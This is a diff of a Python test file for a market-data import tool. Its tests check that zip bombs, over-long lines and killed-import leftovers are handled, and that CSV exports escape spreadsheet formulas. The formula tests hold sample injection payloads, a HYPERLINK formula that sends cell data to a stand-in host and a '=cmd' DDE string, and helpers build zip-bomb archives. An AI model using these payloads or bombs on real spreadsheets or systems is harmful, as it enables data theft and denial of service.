@@ -8,10 +8,14 @@ frames (../shared/data/binance/derived), and, once, by the live path itself
 from __future__ import annotations
 
 import argparse
+import csv
 import gzip
 import io
 import json
+import os
+import signal
 import sqlite3
+import struct
 import subprocess
 import sys
 import threading
@@ -770,8 +774,11 @@ sys.exit(code)
 """
 
 
-def _cli_import_peak_rss_mb(src: Path, db: Path) -> tuple[float, str, str]:
-    """Peak RSS (MB) of `python ingestion.py import SRC` in a fresh process."""
+def _cli_import_peak_rss_mb(
+    src: Path, db: Path, returncode: int = 0
+) -> tuple[float, str, str]:
+    """Peak RSS (MB) of `python ingestion.py import SRC` in a fresh process, which
+    must exit with `returncode`."""
     repo = Path(__file__).resolve().parent.parent
     done = subprocess.run(
         [sys.executable, "-c", _PEAK_RSS_CHILD, "import", str(src)]
@@ -781,7 +788,7 @@ def _cli_import_peak_rss_mb(src: Path, db: Path) -> tuple[float, str, str]:
         text=True,
         timeout=600,
     )
-    assert done.returncode == 0, done.stderr[-2000:]
+    assert done.returncode == returncode, done.stderr[-2000:]
     peak_kb = int(done.stdout.rsplit("PEAK_RSS_KB", 1)[1].split()[0])
     return peak_kb / 1024, done.stdout, done.stderr
 
@@ -930,3 +937,296 @@ def test_write_error_mid_import_stops_the_parser_thread_and_keeps_nothing(
     assert not [t for t in threading.enumerate() if t.name == "import-parser"]
     assert storage.list_datasets(tmp_path) == []
     assert list((tmp_path / "datasets").iterdir()) == []
+
+
+# ------------------------------------------------------- zip bombs and giant lines
+
+
+def _zip_with_giant_line(path: Path, line_mib: int) -> Path:
+    """A Binance-named zip: header, one good row, then one line of `line_mib` MiB of
+    zeros, written by streaming (deflate makes it ~1000x smaller on disk)."""
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
+        name = path.with_suffix(".csv").name
+        with zf.open(name, "w", force_zip64=True) as out:
+            out.write(TRADE_HEADER.encode())
+            out.write(trades_csv_rows(1).encode())
+            block = b"0" * (1 << 20)
+            for _ in range(line_mib):
+                out.write(block)
+            out.write(b"\n")
+    return path
+
+
+def _zip_with_empty_members(path: Path, n: int) -> Path:
+    """A zip64 archive of `n` empty stored members ``m0000000.csv``..., written by
+    hand and streamed (zipfile would keep every member's info in memory)."""
+    with open(path, "wb") as out:
+        for i in range(n):
+            name = b"m%07d.csv" % i
+            head = (b"PK\x03\x04", 20, 0, 0, 0, 33, 0, 0, 0, len(name), 0)
+            out.write(struct.pack("<4s5H3L2H", *head) + name)
+        cd_at = out.tell()
+        for i in range(n):
+            name = b"m%07d.csv" % i
+            entry = (b"PK\x01\x02", 20, 20, 0, 0, 0, 33, 0, 0, 0, len(name), 0, 0)
+            where = (0, 0, 0, i * (30 + len(name)))
+            out.write(struct.pack("<4s6H3L5H2L", *entry, *where) + name)
+        cd_end = out.tell()
+        size = cd_end - cd_at
+        out.write(
+            struct.pack(
+                "<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, n, n, size, cd_at
+            )
+        )
+        out.write(struct.pack("<4sLQL", b"PK\x06\x07", 0, cd_end, 1))
+        end = (b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, min(size, 2**32 - 1))
+        out.write(struct.pack("<4s4H2LH", *end, min(cd_at, 2**32 - 1), 0))
+    return path
+
+
+def test_zip_bomb_of_one_giant_line_is_refused_before_it_is_read(
+    tmp_path: Path,
+) -> None:
+    """A 1 MB zip holding a 1 GiB line is refused by its expansion ratio through the
+    CLI, naming the limit, with peak RSS far under 400 MB (it was 1.15 GB)."""
+    src = _zip_with_giant_line(tmp_path / "BTCUSDT-trades-2024-08-08.zip", 1024)
+    assert src.stat().st_size < 2 << 20
+    peak, _, err = _cli_import_peak_rss_mb(src, tmp_path / "market.db", returncode=1)
+    print(f"1 GiB-line zip bomb: peak RSS {peak:.0f} MB")
+    assert "would expand from" in err and "at most 100x is accepted" in err, err
+    assert "(MAX_ZIP_RATIO): a zip bomb?" in err
+    assert peak < 400
+    assert storage.list_datasets(tmp_path) == []
+
+
+def test_giant_line_within_the_ratio_is_refused_by_its_length(tmp_path: Path) -> None:
+    """A 200 MiB line (zip under the ratio threshold) is refused at 4 MB with its
+    line number, holding no more than the limit (peak RSS was 323 MB)."""
+    src = _zip_with_giant_line(tmp_path / "BTCUSDT-trades-2024-08-09.zip", 200)
+    peak, _, err = _cli_import_peak_rss_mb(src, tmp_path / "market.db", returncode=1)
+    print(f"200 MiB line: peak RSS {peak:.0f} MB")
+    assert "row 3: a line longer than 4 MB (MAX_LINE_BYTES)" in err, err
+    assert peak < 200
+
+
+def test_giant_line_in_plain_csv_and_ndjson_is_refused(tmp_path: Path) -> None:
+    """Plain CSV and NDJSON files with a line over MAX_LINE_BYTES are refused too."""
+    giant = "9" * (datafiles.MAX_LINE_BYTES + 10)
+    csv_src = write(tmp_path / "BTCUSDT-trades-g.csv", TRADE_HEADER + giant + "\n")
+    with pytest.raises(FileImportError, match=r"row 2: a line longer than 4 MB"):
+        import_file(csv_src, dataset="g", base_dir=tmp_path, now_ms=NOW_MS)
+    good = '{"symbol": "BTCUSDT", "ts": 1723161256322, "price": 1.5, "size": 1}\n'
+    nd_src = write(tmp_path / "ticks.ndjson", good * 3 + '{"x": "' + giant + '"}\n')
+    with pytest.raises(FileImportError, match=r"row 4: a line longer than 4 MB"):
+        import_file(nd_src, dataset="n", base_dir=tmp_path, now_ms=NOW_MS)
+    assert storage.list_datasets(tmp_path) == []
+
+
+def test_zip_with_a_million_members_is_refused_from_its_end_record(
+    tmp_path: Path,
+) -> None:
+    """A zip listing 1 000 000 empty members is refused at once through the CLI,
+    naming MAX_ZIP_MEMBERS, in under 400 MB (it took 610 MB and 10 s here)."""
+    src = _zip_with_empty_members(tmp_path / "BTCUSDT-trades-many.zip", 1_000_000)
+    started = time.monotonic()
+    peak, _, err = _cli_import_peak_rss_mb(src, tmp_path / "market.db", returncode=1)
+    took = time.monotonic() - started
+    print(f"1 M members: refused in {took:.1f} s, peak RSS {peak:.0f} MB")
+    assert "the zip archive lists 1,000,000 members; at most 1,000" in err, err
+    assert "(MAX_ZIP_MEMBERS" in err
+    assert peak < 400
+
+
+def test_zip_limits_apply_to_bytes_given_to_detect_format(tmp_path: Path) -> None:
+    """detect_format on a zip's bytes applies the member-count and ratio limits."""
+    many = _zip_with_empty_members(tmp_path / "many.zip", 2_000).read_bytes()
+    with pytest.raises(FileImportError, match="lists 2,000 members; at most 1,000"):
+        detect_format(many, "many.zip")
+    bomb = _zip_with_giant_line(tmp_path / "BTCUSDT-trades-b.zip", 300).read_bytes()
+    with pytest.raises(FileImportError, match=r"\(MAX_ZIP_RATIO\): a zip bomb\?"):
+        detect_format(bomb, "b.zip")
+
+
+# ------------------------------------------------------ leftovers of killed imports
+
+
+def _importing_files(folder: Path) -> list[Path]:
+    return sorted(p for p in folder.glob(".*.importing-*") if p.is_file())
+
+
+def test_import_killed_mid_way_is_cleaned_up_by_the_next_import(
+    tmp_path: Path,
+) -> None:
+    """An import killed with SIGKILL leaves its temporary copy; the next import
+    removes it and says how many files and MB it reclaimed."""
+    big = tmp_path / "BTCUSDT-trades-big.csv"
+    with open(big, "w") as fh:
+        for start in range(0, 1_500_000, 500_000):
+            fh.write(trades_csv_rows(500_000, start_id=1_000 + start))
+    repo = Path(__file__).resolve().parent.parent
+    db = tmp_path / "market.db"
+    cli = [sys.executable, str(repo / "ingestion.py"), "import"]
+    proc = subprocess.Popen(
+        [*cli, str(big), "--dataset", "big", "--db", str(db)],
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+    )
+    folder = tmp_path / "datasets"
+    deadline = time.monotonic() + 120
+    try:
+        while time.monotonic() < deadline and proc.poll() is None:
+            if sum(p.stat().st_size for p in _importing_files(folder)) > 4 << 20:
+                break
+            time.sleep(0.05)
+    finally:
+        proc.send_signal(signal.SIGKILL)
+        proc.wait(timeout=30)
+    assert proc.returncode == -signal.SIGKILL
+    left = _importing_files(folder)
+    assert left and all(f".importing-{proc.pid}-" in p.name for p in left)
+    size = sum(p.stat().st_size for p in left)
+    small = write(tmp_path / "BTCUSDT-trades-small.csv", trades_csv_rows(10))
+    done = subprocess.run(
+        [*cli, str(small), "--dataset", "small", "--db", str(db)],
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
+    assert done.returncode == 0, done.stderr
+    note = f"removed {len(left)} leftover files ({size / 2**20:.1f} MB) from killed"
+    print(f"{note} imports")
+    assert note in done.stdout, done.stdout
+    assert _importing_files(folder) == []
+    assert storage.list_datasets(tmp_path) == ["small"]
+
+
+def test_leftovers_of_running_imports_are_kept(tmp_path: Path) -> None:
+    """remove_import_leftovers keeps files of live imports, removes those of dead
+    or reused pids, and ignores other files."""
+    folder = tmp_path / "datasets"
+    folder.mkdir()
+    now = time.time_ns()
+    code = "import os; print(os.getpid())"
+    gone = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
+    sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
+    try:
+        mine = folder / f".a.importing-{os.getpid()}-{now}.db"
+        dead = folder / f".b.importing-{int(gone.stdout)}-{now}.db"
+        reused = folder / f".c.importing-{sleeper.pid}-{now - 3_600 * 10**9}.db"
+        other = folder / "notes.importing-1-2.db"
+        for path in (mine, dead, reused, other, Path(f"{dead}-wal")):
+            path.write_bytes(b"x" * 1000)
+        cleanup = datafiles.remove_import_leftovers(tmp_path)
+    finally:
+        sleeper.kill()
+        sleeper.wait()
+    assert (cleanup.files, cleanup.bytes) == (3, 3000)
+    assert cleanup.note() == "removed 3 leftover files (0.0 MB) from killed imports"
+    assert sorted(p.name for p in folder.iterdir()) == [mine.name, other.name]
+
+
+# --------------------------------------------------------------- formula injection
+
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def _cells(data: bytes | str) -> list[list[str]]:
+    """Rows of a CSV (comment lines skipped) as the csv module reads them."""
+    text = data.decode() if isinstance(data, bytes) else data
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    return [row for row in rows if not (row and row[0].startswith("#"))]
+
+
+def test_frame_to_csv_bytes_escapes_formula_text_but_not_numbers() -> None:
+    """Text cells starting with = + - @ tab or CR get a leading quote; numbers,
+    such as negative prices, and other text are written as they were."""
+    frame = pd.DataFrame(
+        {
+            "note": [EVIL, "+1", "-2", "@SUM(A1)", "\tx", "\r\nx", "ok", None],
+            "price": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0, 7.0, 8.0],
+            "text": pd.array(["-x", "y", None, "z", "a", "b", "c", "d"], "string"),
+            "cat": pd.Categorical(["=1+1", "a", "a", "a", "a", "a", "a", "a"]),
+            "mixed": pd.Series([-5, "-5", 1.5, None, 1, 2, 3, 4], dtype=object),
+        }
+    )
+    rows = _cells(datafiles.frame_to_csv_bytes(frame, ["params\r\n=cmd|' /C calc'"]))
+    assert rows[0] == ["note", "price", "text", "cat", "mixed"]
+    assert [r[0] for r in rows[1:]] == [
+        "'" + EVIL, "'+1", "'-2", "'@SUM(A1)", "'\tx", "'\r\nx", "ok", ""
+    ]  # fmt: skip
+    assert [r[1] for r in rows[1:4]] == ["-1.5", "2.0", "-3.0"]
+    assert [r[2] for r in rows[1:3]] == ["'-x", "y"]
+    assert rows[1][3] == "'=1+1" and [r[4] for r in rows[1:3]] == ["-5", "'-5"]
+    text = datafiles.frame_to_csv_bytes(frame, ["params\r\n=cmd"]).decode()
+    assert text.startswith("# params  =cmd\n")
+    assert frame["note"].iloc[0] == EVIL  # the caller's frame is not changed
+
+
+def test_alert_history_csv_escapes_a_webhook_error_text() -> None:
+    """The alert-history CSV (app.events_csv) writes a webhook's error text that
+    starts with = as inert text, on one cell even with CR LF inside."""
+    import app
+
+    events = pd.DataFrame(
+        {
+            "id": [7],
+            "rule_id": [3],
+            "rule_text": ["z > 2"],
+            "fired_ms": [1_723_161_600_000],
+            "value": [-2.5],
+            "snapshot_json": ['{"pair": "BTCUSDT/ETHUSDT", "z": -2.5}'],
+            "notify_status": ["failed"],
+            "notify_detail": [EVIL + "\r\nsecond line"],
+        }
+    )
+    rows = _cells(app.events_csv(events))
+    assert len(rows) == 2
+    row = dict(zip(rows[0], rows[1], strict=True))
+    assert row["detail"] == "'" + EVIL + "\r\nsecond line"
+    assert row["value"] == "-2.5" and row["z"] == "-2.5"
+
+
+def test_streaming_exports_keep_comment_lines_on_one_line(tmp_path: Path) -> None:
+    """export_bars' comment lines cannot break into a formula row, and its and
+    export_ticks' rows go through the escaping writer (numbers unchanged)."""
+    src = write(tmp_path / "BTCUSDT-trades-e.csv", trades_csv_rows(500))
+    report = import_file(src, dataset="e", base_dir=tmp_path, now_ms=NOW_MS)
+    out = io.StringIO()
+    datafiles.export_bars(
+        report.db_path, "BTCUSDT", 60, None, None, out, header_lines=["a\r\n=cmd"]
+    )
+    lines = out.getvalue().splitlines()
+    assert lines[0] == "# a  =cmd" and not any(ln.startswith("=") for ln in lines)
+    ticks = io.StringIO()
+    datafiles.export_ticks(report.db_path, "BTCUSDT", None, None, ticks)
+    rows = _cells(ticks.getvalue())
+    assert rows[1][1:4] == ["BTCUSDT", "1000", "60000.0"] and len(rows) == 501
+
+
+def test_complete_kline_wins_over_partial_1s_bars_at_the_live_seam(tmp_path: Path):
+    """Where live 1 s bars start mid-minute, that minute comes from the stored kline
+    (the complete one); minutes with only 1 s bars or only klines keep their own."""
+    from models import Tick
+
+    db = tmp_path / "market.db"
+    t0 = 1_723_161_600_000  # 2024-08-09T00:00:00Z
+    klines = pd.DataFrame(
+        {"ts_ms": [t0, t0 + 60_000], "open": [100.0, 101.0], "high": [102.0, 103.0],
+         "low": [99.0, 100.0], "close": [101.0, 102.0], "volume": [5.0, 6.0],
+         "quote_volume": [505.0, 612.0], "trades": [100, 120]}
+    )  # fmt: skip
+    # live trades from second 90 (mid second minute) to second 179, one per second
+    ticks = [
+        Tick("BTCUSDT", i, t0 + 1000 * s, 102.0 + 0.01 * i, 0.1, False)
+        for i, s in enumerate(range(90, 180), start=1)
+    ]
+    with storage.Writer(db) as w:
+        w.write_bars("BTCUSDT", 60, klines)
+        w.write_batch(ticks)
+    got = datafiles.read_bars_any(db, "BTCUSDT", 60, t0, t0 + 180_000)
+    assert got["ts"].tolist() == [
+        pd.Timestamp(t0 + k * 60_000, unit="ms", tz="UTC") for k in range(3)
+    ]
+    assert got["trades"].tolist() == [100, 120, 60]  # kline, kline (seam), 1 s
+    assert got["close"].iloc[1] == 102.0  # the kline's close, not a partial one
+    assert got["open"].iloc[2] == pytest.approx(102.0 + 0.01 * 31)
